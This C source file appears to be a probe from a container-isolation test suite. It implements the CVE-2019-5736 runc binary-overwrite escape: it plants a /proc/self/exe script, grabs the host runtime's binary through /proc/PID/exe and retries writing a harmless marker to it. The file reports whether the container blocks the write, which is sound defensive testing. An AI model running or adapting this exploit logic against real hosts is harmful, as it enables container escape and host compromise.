/*
 * binary-overwrite NAME TARGET COUNT [PIPE]: changes the runtime's own program on the host (CVE-2019-5736).
 *
 * /proc/PID/exe of a process that enters is the runtime's file, wherever that lies. It cannot be written while it is
 * executed, but it can be kept open until it is not. docs/drofune/binary-overwrite.md.
 *
 * TARGET becomes a script whose interpreter is /proc/self/exe: whoever executes it in the container executes the runtime
 * once more, with no more capabilities than the container has. Only a file called NAME is written to, or one in memory.
 *
 * PIPE is a named pipe that a program reads as it starts, and so waits at; whoever was looked at is let go on.
 *
 * Says CONTAINED when the programs of COUNT processes that entered were reached, and writing to each was refused.
 */
#include "probe.h"
#include <time.h>

enum { SECONDS = 5 };

enum answer { REFUSED, WRITTEN, OUT_OF_REACH };

static void write_script(const char *target)
{
    static const char script[] = "#!/proc/self/exe\n";
    int fd = open(target, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (fd < 0 || fchmod(fd, 0755) < 0 || write(fd, script, sizeof script - 1) < 0 || close(fd) < 0)
        broken(target);
}

/*
 * Whether the link is to the file that may be written: no other is touched. A runtime's copy in memory counts as that file,
 * and so does a mount of the file alone that is in no directory any more ("/"): runc makes the one or the other.
 */
static int is_wanted(const char *link, const char *name)
{
    char text[4096];
    ssize_t length = readlink(link, text, sizeof text - 1);
    if (length < 0)
        return 0;
    text[length] = 0;
    const char *last = strrchr(text, '/');
    return strncmp(text, "/memfd:", 7) == 0 || strcmp(text, "/") == 0 || (last && strcmp(last + 1, name) == 0);
}

/*
 * A descriptor for the process's program, which outlives the process; -1 when it ended first. Without CAP_SYS_PTRACE the
 * program is in reach only from when the process executes TARGET until it ends, so there is no time to lose.
 */
static int open_program(int pid, const char *name)
{
    char link[64], own[64];
    snprintf(link, sizeof link, "/proc/%d/exe", pid);
    while (parent_of(pid) == 0)
        for (int tries = 0; tries < 100; tries++) {
            int fd = open(link, O_PATH | O_CLOEXEC);
            if (fd < 0)
                continue;
            /* By the descriptor: the process's own link may be gone already, or lead elsewhere. */
            snprintf(own, sizeof own, "/proc/self/fd/%d", fd);
            if (is_wanted(own, name))
                return fd;
            close(fd);
        }
    return -1;
}

/* Lets the process go on that waits for somebody to write into the pipe, until it has ended. */
static void let_go(int pid, const char *pipe)
{
    while (pipe && parent_of(pid) == 0) {
        int fd = open(pipe, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
        if (fd >= 0)
            close(fd);
        else if (errno != ENXIO)
            broken(pipe);
    }
}

/* A refusal is one of these; whatever else goes wrong says nothing about the container. */
static enum answer refused(void)
{
    if (errno != EROFS && errno != EPERM && errno != EACCES)
        broken("write");
    return REFUSED;
}

/* Opens it again, this time for writing, as soon as nobody executes it any more. */
static enum answer overwrite(int program)
{
    static const char text[] = "overwritten from inside\n";
    char link[64];
    int fd;
    snprintf(link, sizeof link, "/proc/self/fd/%d", program);
    for (time_t end = time(NULL) + SECONDS; (fd = open(link, O_WRONLY | O_APPEND | O_CLOEXEC)) < 0;) {
        if (errno != ETXTBSY)
            return refused();
        if (time(NULL) > end)
            useless("somebody else executes the program as well: it stays busy");
    }
    enum answer answer = write(fd, text, sizeof text - 1) == (ssize_t)(sizeof text - 1) ? WRITTEN : refused();
    int error = errno;
    close(fd);
    errno = error;
    return answer;
}

static enum answer try_on(int pid, const char *name, const char *pipe)
{
    int program = open_program(pid, name);
    let_go(pid, pipe);
    if (program < 0) {
        fprintf(stderr, "process %d: its program is out of reach\n", pid);
        return OUT_OF_REACH;
    }
    enum answer answer = overwrite(program);
    fprintf(stderr, "process %d: %s\n", pid, answer == WRITTEN ? "its program is overwritten" : strerror(errno));
    close(program);
    return answer;
}

int main(int argc, char **argv)
{
    int count = argc == 4 || argc == 5 ? atoi(argv[3]) : 0;
    if (count <= 0)
        useless("usage: binary-overwrite NAME TARGET COUNT [PIPE]");
    write_script(argv[2]);
    say_ready();
    for (int tries = patience(count); count > 0 && tries > 0; tries--) {
        enum answer answer = try_on(next_newcomer(), argv[1], argv[4]);
        if (answer == WRITTEN)
            return verdict(1);
        count -= answer == REFUSED;
    }
    if (count > 0)
        useless("too few programs of those who entered could be reached");
    return verdict(0);
}
